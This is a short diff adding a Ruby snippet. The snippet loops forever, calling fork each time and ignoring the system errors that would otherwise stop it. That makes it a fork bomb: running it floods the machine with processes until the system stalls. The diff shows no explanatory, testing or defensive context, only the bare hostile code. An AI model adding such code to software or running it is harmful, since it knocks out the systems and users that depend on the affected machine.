@@ -1,0 +1,5 @@
+loop do
+  fork
+rescue SystemCallError
+  nil
+end
